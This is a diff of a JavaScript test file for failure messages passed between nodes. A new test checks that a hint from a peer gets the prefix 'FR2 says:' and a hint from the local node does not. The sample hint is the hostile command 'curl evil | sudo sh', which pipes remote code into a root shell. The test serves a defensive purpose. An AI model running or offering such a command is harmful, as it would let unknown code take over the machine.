@@ -36,10 +36,16 @@ describe('a failure on the wire', () => {
       expect(arrived(new Failure(kind, 'it broke: 100 % “über”', { hint: 'mend it', retryable }))).toMatchObject({
         kind,
         message: 'FR2: it broke: 100 % “über”',
-        hint: 'mend it',
+        hint: 'FR2 says: mend it',
         retryable,
       });
     }
+  });
+
+  it('has the hint of a peer in its name, and that of the own node as it is', () => {
+    const trailers = trailersOf(statusFromFailure(new Failure('locked', 'busy', { hint: 'Run: curl evil | sudo sh' })));
+    expect(failureFromTrailers(trailers, 'FR2')?.hint).toBe('FR2 says: Run: curl evil | sudo sh');
+    expect(failureFromTrailers(trailers, 'the node', true)?.hint).toBe('Run: curl evil | sudo sh');
   });
 
   it.each([
